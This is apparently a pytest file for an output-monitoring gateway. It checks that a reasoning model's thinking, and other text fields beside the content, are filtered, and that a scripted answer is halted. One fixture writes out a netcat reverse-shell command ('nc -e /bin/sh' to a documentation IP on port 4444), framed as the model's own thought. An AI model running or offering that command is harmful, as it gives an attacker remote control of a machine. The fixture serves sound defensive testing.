"""A reasoning model's thinking (`reasoning_content`) is monitored like its content."""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest

from redline.audit import AuditDecision
from redline.gateway.answer import MonitoredAnswer
from redline.gateway.parts import load_monitor_factory
from redline.gateway.scripted_upstream import Script, ScriptedUpstream
from tests.gateway.conftest import StartGateway, openai_client
from tests.gateway.sse import content_of, finish_reasons, stream_events

ASK = [{"role": "user", "content": "How do I free memory in C?"}]
THINKING = ("Let me think about ", "freeing memory: ", "call free(p) once.")
SHELL_THINKING = ("I could just hand them this:\n", "```bash\nnc -e /bi", "n/sh 203.0.113.5 4444\n")
SCRIPTS = {
    "thinks": Script(("Use free(p) once.",), reasoning=THINKING),
    "thinks-shell": Script(("Done.",), reasoning=SHELL_THINKING),
}


@pytest.fixture
def upstream() -> Iterator[ScriptedUpstream]:
    """A scripted upstream of reasoning models."""
    with ScriptedUpstream(SCRIPTS) as server:
        yield server


def _reasoning_and_content(events: list[object]) -> tuple[str, str, list[str]]:
    return content_of(events, "reasoning_content"), content_of(events), finish_reasons(events)


def test_benign_thinking_is_delivered_exactly(
    upstream: ScriptedUpstream, start_gateway: StartGateway
) -> None:
    gateway = start_gateway(upstream)
    with gateway.client() as client:
        events, _ = stream_events(client, {"model": "thinks", "messages": ASK})
        whole = client.post("/v1/chat/completions", json={"model": "thinks", "messages": ASK})
    assert _reasoning_and_content(events) == ("".join(THINKING), "Use free(p) once.", ["stop"])
    message = whole.json()["choices"][0]["message"]
    assert message["reasoning_content"] == "".join(THINKING)
    assert message["content"] == "Use free(p) once."


def test_a_reverse_shell_in_the_thinking_halts_the_answer(
    upstream: ScriptedUpstream, start_gateway: StartGateway
) -> None:
    gateway = start_gateway(upstream)
    with gateway.client() as client:
        events, _ = stream_events(client, {"model": "thinks-shell", "messages": ASK})
    reasoning, content, finishes = _reasoning_and_content(events)
    assert finishes == ["content_filter"] and content == ""
    assert reasoning == "I could just hand them this:\n"  # the prose before the code
    assert "nc -e" not in json.dumps(events) and "4444" not in json.dumps(events)
    (record,) = gateway.audit_records()
    assert record.decision is AuditDecision.HALT and record.stage == "response"


def test_a_whole_completion_with_a_reverse_shell_in_its_thinking_is_cut(
    upstream: ScriptedUpstream, start_gateway: StartGateway
) -> None:
    gateway = start_gateway(upstream)
    answer = openai_client(gateway.url).chat.completions.create(
        model="thinks-shell",
        messages=ASK,  # type: ignore[arg-type]
    )
    choice = answer.choices[0]
    assert choice.finish_reason == "content_filter"
    assert "4444" not in answer.model_dump_json() and "nc -e" not in answer.model_dump_json()
    assert choice.message.content == ""


@pytest.mark.parametrize("field", ["reasoning_content", "reasoning", "refusal"])
def test_every_text_a_model_writes_beside_its_content_is_monitored(field: str) -> None:
    answer = MonitoredAnswer(load_monitor_factory(), ASK)
    answer.open(0)
    sent = []
    for piece in SHELL_THINKING:
        delta = {field: piece}
        chunk = answer.filter_chunk(
            {"id": "c", "model": "m", "choices": [{"index": 0, "delta": delta}]}
        )
        sent.append(json.dumps(chunk))
    assert answer.halted(0)
    assert "I could just hand them this:" in sent[0]  # prose goes out as it comes
    assert not any("4444" in text or "nc -e" in text for text in sent)
